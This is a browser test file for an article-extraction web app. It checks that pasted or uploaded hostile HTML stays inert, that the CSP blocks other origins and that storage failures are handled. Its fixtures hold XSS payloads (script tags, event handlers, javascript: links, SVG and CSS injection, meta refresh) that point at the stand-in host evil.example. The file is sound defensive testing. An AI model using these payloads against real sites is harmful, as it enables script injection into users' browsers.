// Hostile input in the built page (dist/), in headless Debian Chromium: pasted or
// opened content never runs, never reaches the network, and is shown as text;
// the Content-Security-Policy forbids every request beyond the page's origin;
// the input is kept when local storage is full or disabled, with a visible note.
//
// Run by scripts/test.sh after `trunk build --release` (see app.test.mjs).
import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { OUT, start } from "./server.mjs";

const EVIL = "http://evil.example";

// Each payload, if it ran, would open a dialog, set window.__pwned, or ask for a
// URL of EVIL. The article around it gives the parser a body to keep.
const body = [
  "JAKARTA - Pemerintah memperkuat kerja sama untuk mencegah tindak pidana perdagangan orang di kawasan Asia Tenggara.",
  "Menurut kementerian, jumlah kasus yang ditangani meningkat tajam dalam dua tahun terakhir sehingga perlu langkah bersama.",
  "Kerja sama itu mencakup pertukaran data, pelatihan aparat, serta pemulangan warga yang menjadi korban di luar negeri.",
];
const HOSTILE = {
  "script tags in text": `Judul berita <script>window.__pwned=1;alert(1)</script>\n\n${body.join("\n\n")}\n<script src="${EVIL}/x.js"></script>`,
  "event handlers in text": `<img src=x onerror="window.__pwned=2;alert(2)">Judul berita\n\n${body[0]} <b onmouseover="alert(3)">tebal</b>\n\n${body[1]}\n\n${body[2]}`,
  "javascript: links": `Judul berita\n\n${body[0]}\n\n<a href="javascript:window.__pwned=4;alert(4)">Baca juga: klik di sini</a>\n\n[klik](javascript:alert(5))\n\n${body[1]}\n\n${body[2]}`,
  "SVG tricks": `<svg onload="alert(6)"><script>window.__pwned=7</script><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject></svg>\nJudul berita\n\n${body.join("\n\n")}\n<svg><a xlink:href="javascript:alert(8)"><text>x</text></a></svg>`,
  "CSS injection": `<style>@import url(${EVIL}/a.css); body { display: none }</style>\nJudul berita\n\n<div style="background:url(${EVIL}/b.png)">${body[0]}</div>\n\n${body[1]}\n\n<link rel="stylesheet" href="${EVIL}/c.css">${body[2]}`,
  "an HTML page with everything": `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${EVIL}/r"><base href="${EVIL}/"><title>Judul</title>` +
    `<script>window.__pwned=9</script></head><body onload="alert(10)"><h1>Judul berita yang aman</h1>` +
    body.map((p) => `<p>${p}</p>`).join("") +
    `<iframe srcdoc="<script>parent.__pwned=11</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">` +
    `<form action="${EVIL}/f"><input autofocus onfocus="alert(12)"></form><img src="${EVIL}/i.png" srcset="${EVIL}/j.png 2x"></body></html>`,
  "escaped markup that decodes to a script": `Judul &lt;script&gt;window.__pwned=13&lt;/script&gt; berita\n\n${body[0]} &lt;img src=x onerror=alert(14)&gt;\n\n${body[1]}\n\n${body[2]}`,
  "right-to-left and zero-width tricks": `Judul \u202egnp.exe\u202c berita\u200b\n\n${body.join("\n\n")}\n\u2066<script>alert(15)</script>\u2069`,
};

/** The elements that input must never create inside the page's views. */
const ACTIVE = "script, img, iframe, object, embed, svg, style, link, form, input:not([type=file]):not([type=checkbox]), base, meta";

test("hostile input in Chromium", { timeout: 600_000 }, async (t) => {
  const { server, browser } = await start();
  const requests = [];
  const dialogs = [];
  const violations = [];
  const open = async (options = {}) => {
    const context = await browser.newContext({ viewport: { width: 1300, height: 900 }, locale: "en-US", ...options });
    // Every request the page makes is counted; none may leave the origin (those are also refused here,
    // so a failure cannot reach the internet).
    await context.route("**/*", (route) => {
      const url = route.request().url();
      requests.push({ url, at: Date.now() });
      return url.startsWith(server.origin) ? route.continue() : route.abort();
    });
    const page = await context.newPage();
    page.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
    await page.exposeFunction("__violation", (v) => violations.push(v));
    await page.addInitScript(() => document.addEventListener("securitypolicyviolation", (e) => window.__violation(`${e.violatedDirective} ${e.blockedURI}`)));
    await page.goto(server.origin + "/");
    await page.getByRole("button", { name: "Try the sample" }).waitFor();
    // Loaded: the worker has fetched its model and answered the sample warm-up.
    await page.waitForFunction(() => performance.getEntriesByName("kliping-worker-ready").length > 0, null, { timeout: 60_000 });
    return { context, page };
  };
  const parse = async (page, text) => {
    const count = () => page.evaluate(() => Number(document.querySelector("#parse-time")?.dataset.count ?? 0));
    const before = await count();
    await page.fill("#input", text);
    await page.waitForFunction((n) => Number(document.querySelector("#parse-time")?.dataset.count ?? 0) > n, before, { timeout: 60_000 });
  };

  try {
    const { context, page } = await open();
    const loaded = requests.length;
    const afterLoad = Date.now();

    await t.test("the page's policy allows nothing beyond its own origin", async () => {
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
      for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "img-src 'self'", "style-src 'self'", "base-uri 'none'", "form-action 'none'"]) {
        assert.ok(csp.includes(directive), `CSP has ${directive}: ${csp}`);
      }
      assert.ok(!csp.includes("unsafe-inline"), "no inline script or style");
      // The policy itself refuses a request to another origin, before any network.
      const refused = await page.evaluate(async (url) => {
        try { await fetch(url); return false; } catch { return true; }
      }, `${EVIL}/probe`);
      assert.ok(refused, "fetch to another origin is refused");
      await page.waitForFunction(() => true);
      assert.ok(violations.some((v) => v.startsWith("connect-src")), `the refusal is a CSP violation: ${violations}`);
      assert.ok(!requests.some((r) => r.url.startsWith(EVIL)), "the refused request never reached the network layer");
    });

    for (const [name, text] of Object.entries(HOSTILE)) {
      await t.test(`inert: ${name}`, async () => {
        await parse(page, text);
        assert.equal(await page.inputValue("#input"), text, "the input is kept as pasted");
        await page.getByRole("tab", { name: "Article" }).click();
        const reader = page.locator(".reader");
        if (await reader.count()) {
          assert.equal(await page.locator(`.results :is(${ACTIVE})`).count(), 0, "no active element in the reader");
          assert.ok((await reader.innerText()).includes("perdagangan orang"), "the article is shown");
        } else {
          assert.ok(await page.locator(".input-pane .error").count(), "either an article or an error");
        }
        await page.getByRole("tab", { name: /Removed lines/ }).click();
        await page.getByLabel("Show kept lines too").check();
        assert.equal(await page.locator(`.results :is(${ACTIVE})`).count(), 0, "no active element among the lines");
        await page.getByLabel("Show kept lines too").uncheck();
        await page.getByRole("tab", { name: "Article" }).click();
        const shown = (await page.locator(".reader").count()) ? await page.locator(".reader").innerText() : "";
        if (name.startsWith("escaped markup")) {
          // Markup written as text (escaped in the page) is text: shown literally, never as an element.
          assert.ok(shown.includes("<img src=x onerror=alert(14)>"), `the escaped tag is shown as text: ${shown.slice(0, 400)}`);
        } else {
          assert.ok(!shown.includes("__pwned"), "the code of script elements is not article text");
        }
        await page.waitForTimeout(100);
        assert.equal(await page.evaluate(() => window.__pwned ?? null), null, "no payload ran");
        assert.deepEqual(dialogs, [], "no dialog opened");
      });
    }

    await t.test("a hostile page screenshot, for the eye", async () => {
      await parse(page, HOSTILE["event handlers in text"]);
      await page.getByRole("tab", { name: /Removed lines/ }).click();
      await page.screenshot({ path: join(OUT, "10-hostile-removed-lines.png"), fullPage: true });
      await page.getByRole("tab", { name: "Article" }).click();
    });

    await t.test("a hostile file in a batch, and a file of the wrong kind, are listed, never run", async () => {
      const dir = mkdtempSync(join(tmpdir(), "kliping-hostile-"));
      writeFileSync(join(dir, "a.html"), HOSTILE["an HTML page with everything"]);
      writeFileSync(join(dir, "b.jsonl"), [JSON.stringify({ id: "svg", text: HOSTILE["SVG tricks"] }), "{not json", JSON.stringify({ id: "css", text: HOSTILE["CSS injection"] })].join("\n"));
      writeFileSync(join(dir, "c.pdf"), "%PDF-1.4 <script>alert(16)</script>");
      await page.locator("input[type=file]").setInputFiles([join(dir, "a.html"), join(dir, "b.jsonl"), join(dir, "c.pdf")]);
      await page.waitForFunction(() => {
        const p = document.querySelector(".batch-head progress");
        return p && p.max === 5 && p.value === 5;
      }, null, { timeout: 60_000 });
      const items = await page.locator(".batch-item").allInnerTexts();
      assert.equal(items.length, 5, items.join(" | "));
      assert.equal(items.filter((i) => /failed|gagal/i.test(i)).length, 2, `the broken line and the PDF are failed: ${items.join(" | ")}`);
      assert.equal(await page.locator(`.batch :is(${ACTIVE})`).count(), 0);
      await page.locator(".batch-item").first().getByRole("button", { name: "Open" }).click();
      assert.equal(await page.locator(`.results :is(${ACTIVE})`).count(), 0);
      await page.getByRole("button", { name: /Back to the list/ }).click();
      await page.getByRole("button", { name: "Close batch" }).click();
      rmSync(dir, { recursive: true, force: true });
      assert.equal(await page.evaluate(() => window.__pwned ?? null), null);
      assert.deepEqual(dialogs, []);
    });

    await t.test("no request after load: not one, to any origin", () => {
      const late = requests.slice(loaded).filter((r) => r.at >= afterLoad);
      assert.deepEqual(late.map((r) => r.url), [], "parsing, viewing and batches make no request");
      assert.ok(!requests.some((r) => !r.url.startsWith(server.origin)), `only the page's own files were asked for: ${requests.map((r) => r.url)}`);
    });
    await context.close();

    await t.test("storage disabled: the page says so and still parses", async () => {
      const blocked = await browser.newContext({ locale: "en-US" });
      await blocked.addInitScript(() => {
        Object.defineProperty(window, "localStorage", { get() { throw new DOMException("The operation is insecure.", "SecurityError"); } });
      });
      const p = await blocked.newPage();
      await p.goto(server.origin + "/");
      await p.getByRole("button", { name: "Try the sample" }).click();
      await p.locator(".reader .title").waitFor({ timeout: 60_000 });
      await p.locator(".storage-note").waitFor({ timeout: 10_000 });
      assert.match(await p.locator(".storage-note").innerText(), /does not let the page keep your input/);
      await blocked.close();
    });

    await t.test("storage full: the page says so, and the input stays in the page", async () => {
      const full = await browser.newContext({ locale: "en-US" });
      await full.addInitScript(() => {
        Storage.prototype.setItem = function () { throw new DOMException("The quota has been exceeded.", "QuotaExceededError"); };
      });
      const p = await full.newPage();
      await p.goto(server.origin + "/");
      await p.getByRole("button", { name: "Try the sample" }).click();
      await p.locator(".reader .title").waitFor({ timeout: 60_000 });
      await p.locator(".storage-note").waitFor({ timeout: 10_000 });
      assert.match(await p.locator(".storage-note").innerText(), /local storage is full/);
      assert.ok((await p.inputValue("#input")).length > 1000, "the input is still in the page");
      await p.screenshot({ path: join(OUT, "11-storage-full.png") });
      await full.close();
    });
  } finally {
    await browser.close();
    await server.close();
  }
});
